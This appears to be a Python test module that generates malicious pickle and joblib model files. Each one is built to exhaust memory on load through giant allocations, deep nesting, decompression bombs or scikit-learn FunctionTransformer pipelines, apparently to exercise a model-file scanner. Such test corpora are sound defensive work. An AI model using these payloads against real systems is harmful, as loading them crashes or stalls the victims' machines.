"""Models that take memory or time without bound."""
import functools
import io

import joblib
import numpy as np

from hostile_parts import *  # noqa: F403 every name there is for these files


def calls(module, name, arguments, build=b""):
    return Bytes(b"\x80\x04c%b\n%b\n%bR%b." % (module, name, arguments, build))


BIG = b"\x8a\x06\x00\x00\x00\x00\x00\x10"  # 2**44
RANGE = b"cbuiltins\nrange\n" + BIG + b"\x85R"


@model(file="pkl", effect="memory", clean=True)
def bomb_bytearray(path):
    """bytearray(2**44)."""
    return calls(b"builtins", b"bytearray", BIG + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_bytes(path):
    """bytes(2**44)."""
    return calls(b"builtins", b"bytes", BIG + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_set(path):
    """set(range(2**44))."""
    return calls(b"builtins", b"set", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_counter(path):
    """Counter(range(2**44))."""
    return calls(b"collections", b"Counter", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_deque(path):
    """deque(range(2**44))."""
    return calls(b"collections", b"deque", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_fraction(path):
    """Fraction('1e999999999')."""
    return calls(b"fractions", b"Fraction", b"X\x0b\x00\x00\x001e999999999\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_array_shape(path):
    """An empty array of 2**44 items."""
    return calls(b"numpy.core.multiarray", b"_reconstruct", b"cnumpy\nndarray\n" + BIG + b"\x85C\x01b\x87")


@model(file="pkl", effect="memory", clean=True)
def bomb_array_set(path):
    """numpy's scalar of a type with two thousand million bytes."""
    return calls(b"numpy.core.multiarray", b"scalar", b"cnumpy\ndtype\nX\x0b\x00\x00\x00V2000000000\x89\x88\x87R\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_repeated_frozenset(path):
    """frozenset(range(2**44)) in a set of parameters of a search."""
    return calls(b"builtins", b"frozenset", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_deep(path):
    """A million lists inside each other."""
    return Bytes(b"\x80\x04" + b"]" * 1_000_000 + b"a" * 999_999 + b".")


@model(effect="memory", clean=True)
def bomb_compressed(path):
    """An array of 512 MiB of zeros in half a megabyte."""
    import zlib
    packer, data = zlib.compressobj(6), io.BytesIO()
    head = io.BytesIO()
    joblib.dump(np.zeros(4), head)
    text = head.getvalue()
    shape = text.replace(b"K\x04\x85", b"J\x00\x00\x00\x04\x85", 1)
    data.write(packer.compress(shape[:-1]))
    block = bytes(1 << 20)
    for _ in range(512):
        data.write(packer.compress(block))
    data.write(packer.compress(b"."))
    data.write(packer.flush())
    return Bytes(data.getvalue())


@model(effect="memory")
def bomb_function(path):
    """FunctionTransformer.func makes an array of the size in the file."""
    return pipe(function(functools.partial(np.full, 2 ** 44)), line())


@model(effect="memory", clean=True)
def bomb_function_shape(path):
    """np.zeros_like with a shape of the file."""
    return pipe(function(np.zeros_like, kw_args={"shape": (2 ** 20, 2 ** 20)}), line())


@model(effect="memory", clean=True)
def bomb_function_type(path):
    """np.asarray with a type whose items have a thousand million bytes."""
    return pipe(function(np.asarray, kw_args={"dtype": "S1000000000"}), line())


@model(effect="memory", clean=True)
def bomb_class_as_function(path):
    """FunctionTransformer.func is the class bytearray."""
    return pipe(*constant(2 ** 44), function(bytearray), line())


@model(clean=True, effect="none")
def ufunc_error_object(path):
    """A ufunc gets an object whose write method it calls on errors."""
    return pipe(function(np.log, kw_args={"extobj": [8192, 0x4444, line()]}), line())
